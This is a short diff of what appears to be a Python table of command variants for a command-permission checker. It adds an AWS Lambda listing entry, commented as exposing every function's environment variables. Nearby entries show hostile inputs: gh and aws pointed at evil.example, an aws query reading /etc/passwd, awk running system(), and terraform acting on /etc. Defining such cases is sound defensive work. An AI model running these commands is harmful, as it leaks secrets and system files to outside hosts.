@@ -323,6 +323,8 @@ _BY_PROGRAM = {
         "gh pr view -R evil.example/a/b",
     ),
     "aws s3 ls": ("aws s3 ls --endpoint-url http://evil.example", "aws s3 ls --query file:///etc/passwd"),
+    # It shows the environment variables of every function.
+    "aws lambda list-functions": ("aws lambda list-functions",),
     "terraform fmt": ("terraform fmt /etc", "terraform fmt -chdir=/x", "terraform fmt -list /etc"),
     "awk": ("awk 'BEGIN{system(1)}'",),
     "make": ("make test",),
